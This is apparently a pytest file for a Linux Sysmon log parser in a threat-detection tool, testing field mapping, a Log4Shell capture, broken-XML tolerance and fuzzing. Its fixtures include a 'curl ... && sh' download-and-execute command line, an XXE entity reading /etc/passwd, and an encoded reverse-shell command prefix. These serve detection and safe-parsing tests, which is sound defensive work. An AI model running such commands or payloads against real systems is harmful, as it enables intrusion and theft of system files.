"""Sysmon for Linux: golden mapping (own fixture + the OTRF Log4Shell capture), broken XML, fuzz."""

from __future__ import annotations

from collections import Counter
from datetime import UTC, datetime
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from aptwatch.sources import detect_format
from aptwatch.sources.la_syslog import LogAnalyticsSyslog
from aptwatch.sources.sysmon_linux import SysmonLinux, tolerant_parse
from tests.sources.helpers import count, data, read_all

SYS = ('<System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>{id}</EventID>'
       '<Version>5</Version><Level>4</Level><Task>{id}</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords>'
       '<TimeCreated SystemTime="2024-03-01T10:00:{ss}.123456789Z"/><EventRecordID>10{id}</EventRecordID>'
       '<Correlation/>'
       '<Execution ProcessID="1590" ThreadID="1590"/><Channel>Linux-Sysmon/Operational</Channel>'
       '<Computer>web01.corp.example</Computer><Security UserId="0"/></System>')


def event(eid: int, fields: dict[str, str]) -> str:
    body = "".join(f'<Data Name="{k}">{v}</Data>' for k, v in fields.items())
    system = SYS.replace("{id}", str(eid)).replace("{ss}", f"{eid:02d}")
    return "<Event>" + system + "<EventData>" + body + "</EventData></Event>"


PROC = {"RuleName": "-", "UtcTime": "2024-03-01 10:00:01.500", "ProcessGuid": "{9432-1}", "ProcessId": "4242",
        "Image": "/usr/bin/curl", "FileVersion": "-", "Description": "-", "Product": "-", "Company": "-",
        "OriginalFileName": "-", "CommandLine": "curl -s http://203.0.113.9/a &amp;&amp; sh",
        "CurrentDirectory": "/tmp", "User": "www-data", "LogonGuid": "{9432-0}", "LogonId": "33",
        "TerminalSessionId": "4294967295", "IntegrityLevel": "no level", "Hashes": "-",
        "ParentProcessGuid": "{9432-0a}", "ParentProcessId": "4200", "ParentImage": "/usr/sbin/apache2",
        "ParentCommandLine": "/usr/sbin/apache2 -k start", "ParentUser": "www-data"}
NET = {"RuleName": "-", "UtcTime": "2024-03-01 10:00:03.000", "ProcessGuid": "{9432-1}", "ProcessId": "4242",
       "Image": "/usr/bin/curl", "User": "www-data", "Protocol": "tcp", "Initiated": "true", "SourceIsIpv6": "false",
       "SourceIp": "10.0.0.5", "SourceHostname": "-", "SourcePort": "51492", "SourcePortName": "-",
       "DestinationIsIpv6": "false", "DestinationIp": "203.0.113.9", "DestinationHostname": "-",
       "DestinationPort": "80", "DestinationPortName": "http"}
FILE = {"RuleName": "-", "UtcTime": "2024-03-01 10:00:04.000", "ProcessGuid": "{9432-1}", "ProcessId": "4242",
        "Image": "/usr/bin/curl", "TargetFilename": "/tmp/a.sh", "CreationUtcTime": "2024-03-01 10:00:04.000",
        "User": "www-data"}
LINES = [
    f"Mar  1 10:00:01 web01 sysmon: {event(1, PROC)}",
    f"Mar  1 10:00:03 web01 sysmon: {event(3, NET)}",
    f"Mar  1 10:00:04 web01 sysmon: {event(11, FILE)}",
    f"Mar  1 10:00:05 web01 sysmon: {event(5, {k: PROC[k] for k in ('UtcTime', 'ProcessGuid', 'ProcessId', 'Image')})}",
    f"Mar  1 10:00:06 web01 sysmon: {event(23, {**FILE, 'Hashes': '-', 'IsExecutable': '-', 'Archived': 'false'})}",
    f"Mar  1 10:00:07 web01 sysmon: {event(16, {'UtcTime': '2024-03-01 10:00:07.000', 'Configuration': '/c.xml'})}",
]


def write(tmp_path: Path, lines: list[str]) -> Path:
    p = tmp_path / "syslog"
    p.write_bytes(("\n".join(lines) + "\n").encode())
    return p


def test_sniff(tmp_path: Path) -> None:
    p = write(tmp_path, LINES)
    assert SysmonLinux().sniff(p.read_bytes(), "syslog")
    assert detect_format(p.read_bytes(), "syslog").name == "sysmon_linux"  # type: ignore[union-attr]
    mixed = write(tmp_path, [LINES[0], "Mar  1 10:00:01 web01 sshd[1]: Accepted password for a from b port 1 ssh2"])
    assert detect_format(mixed.read_bytes(), "syslog").name == "authlog"  # type: ignore[union-attr]


def test_golden(tmp_path: Path) -> None:
    rows, warnings = read_all(SysmonLinux(), write(tmp_path, LINES))
    assert warnings == []
    assert {t: len(r) for t, r in rows.items()} == {"process": 2, "network": 1, "file": 2, "logging": 1}
    start, end = rows["process"]
    # as for Windows events: System/TimeCreated is the time, UtcTime stays in data
    assert start["time"] == datetime(2024, 3, 1, 10, 0, 1, 123456, tzinfo=UTC)
    assert (start["event_code"], start["action"], start["host"], start["channel"], start["provider"]) == \
        (1, "start", "web01", "Linux-Sysmon/Operational", "Linux-Sysmon")
    assert (start["process_path"], start["process_name"], start["process_id"], start["user"]) == \
        ("/usr/bin/curl", "curl", 4242, "www-data")
    assert start["command_line"] == "curl -s http://203.0.113.9/a && sh"
    assert (start["parent_path"], start["parent_process_id"], start["parent_command_line"], start["logon_id"]) == \
        ("/usr/sbin/apache2", 4200, "/usr/sbin/apache2 -k start", "33")
    d = data(start)
    assert d["TerminalSessionId"] == "4294967295" and start.get("terminal_session_id") is None  # unsigned -1
    assert d["UtcTime"] == "2024-03-01 10:00:01.500" and d["RuleName"] == "-"
    assert (d["EventRecordID"], d["ExecutionProcessID"], d["UserID"]) == ("101", "1590", "0")
    assert end["action"] == "end" and end["event_code"] == 5
    (net,) = rows["network"]
    assert (net["src_ip"], net["src_port"], net["dst_ip"], net["dst_port"], net["protocol"], net["initiated"]) == \
        ("10.0.0.5", 51492, "203.0.113.9", 80, "tcp", True)
    assert data(net)["DestinationPortName"] == "http"
    create, delete = rows["file"]
    assert (create["action"], create["path"], create["file_name"], create["creation_time"]) == \
        ("create", "/tmp/a.sh", "a.sh", "2024-03-01 10:00:04.000")
    assert delete["action"] == "delete" and data(delete)["Archived"] == "false"
    (config,) = rows["logging"]
    assert (config["event_code"], config["action"], config["configuration"]) == (16, "sensor_config_changed",
                                                                                  "/c.xml")


def test_same_row_as_windows_sysmon() -> None:
    """A Linux Sysmon event and the same event from Windows Sysmon map to the same columns."""
    from aptwatch.sources.sysmon_linux import LinuxSysmonBuilder, parse_event
    from aptwatch.sources.windows.builder import WinBatchBuilder

    system, fields = parse_event(event(3, NET))
    lin, win = LinuxSysmonBuilder(), WinBatchBuilder()
    lin.add(1, system["TimeCreated.SystemTime"], "web01", "Linux-Sysmon/Operational", "Linux-Sysmon", 3,
            dict(fields), "x")
    win.add(1, system["TimeCreated.SystemTime"], "web01", "Microsoft-Windows-Sysmon/Operational",
            "Microsoft-Windows-Sysmon", 3, dict(fields), "x")
    (a,) = [b for b in lin.flush() if hasattr(b, "data")]
    (b,) = [b for b in win.flush() if hasattr(b, "data")]
    assert a.table == b.table == "network"  # type: ignore[union-attr]
    ra, rb = a.data.to_pylist()[0], b.data.to_pylist()[0]  # type: ignore[union-attr]
    for k in ("channel", "provider"):
        ra.pop(k), rb.pop(k)
    assert ra == rb


def test_log4shell_capture(shared: type) -> None:
    """The OTRF Log4Shell Linux capture (Log Analytics Syslog rows): every row stored, broken XML explained."""
    base = shared("otrf-compound", "Log4Shell", "syslog_sysmon_log4shell_cve2021_44228_jndi_reference")  # type: ignore[operator]
    path = next(base.glob("*.json"))
    n_lines = sum(1 for ln in path.read_bytes().split(b"\n") if ln.strip())
    rows, warnings = read_all(LogAnalyticsSyslog(), path)
    assert count(rows) == n_lines == 93
    codes = Counter((t, r["event_code"]) for t, rs in rows.items() for r in rs)
    assert codes == {("process", 5): 50, ("process", 1): 31, ("network", 3): 6, ("file", 11): 4, ("file", 23): 2}
    assert sum(1 for r in rows["process"] if r["process_name"] == "bash") > 0
    # 16 events hold Sysmon's own "&lt unknown process&gt " (no ';'), one is cut at the syslog size limit:
    # all are stored, with what the tolerant reader recovered, and explained
    assert Counter(w.reason for w in warnings) == {"bad_xml": 16, "truncated_xml": 1}
    shell = [r for r in rows["process"] if r["event_code"] == 1 and r["parent_path"] ==
             "/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java"]
    assert shell and str(shell[0]["command_line"]).startswith("bash -c {echo,YmFzaCAtaSA+")
    assert {r["host"] for rs in rows.values() for r in rs} == {"ubuntu5"}
    revshell = [r for r in rows["network"] if r["dst_port"] == 443 and r["dst_ip"] == "192.168.2.6"]
    assert revshell and revshell[0]["process_path"] == "bash"


def test_tolerant_reader() -> None:
    cut = event(1, PROC)[:900]
    system, fields = tolerant_parse(cut) or ({}, {})
    assert system["EventID"] == "1" and system["Computer"] == "web01.corp.example"
    assert fields["ProcessId"] == "4242"
    assert tolerant_parse("<Event><System></System>") is None


def test_broken_xml_and_truncation(tmp_path: Path) -> None:
    lines = [LINES[0][:700], LINES[1].replace("<EventID>3</EventID>", "<EventID>3</EventId>"),
             "Mar  1 10:00:09 web01 sysmon: <Event><System>garbage", LINES[2],
             LINES[3].replace('<!DOCTYPE x [<!ENTITY a "b">]>', ""),
             'Mar  1 10:00:10 web01 sysmon: <!DOCTYPE e [<!ENTITY x SYSTEM "file:///etc/passwd">]><Event>&x;</Event>']
    rows, warnings = read_all(SysmonLinux(), write(tmp_path, lines))
    assert count(rows) == len(lines)  # every line stored
    assert [w.reason for w in warnings] == ["truncated_xml", "bad_xml", "bad_xml"]
    assert rows["process"][0]["process_id"] == 4242  # recovered from the cut event
    assert "root:" not in str(rows)  # no external entity was ever resolved


frag = st.sampled_from(LINES)
junk = st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\n\r"), max_size=60)


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.one_of(frag, junk, st.builds(lambda s, n: s[: n % (len(s) + 1)], frag, st.integers(0, 5000)),
                          st.builds(lambda s, j: s.replace("<Data", j, 1), frag, junk)), min_size=1, max_size=15))
def test_fuzz_every_line_stored_once(tmp_path: Path, lines: list[str]) -> None:
    p = write(tmp_path, lines)
    rows, _ = read_all(SysmonLinux(), p)
    nonblank = [ln for ln in p.read_bytes().decode().split("\n") if ln.strip()]
    assert sorted(str(r["raw"]) for t in rows.values() for r in t) == sorted(nonblank)
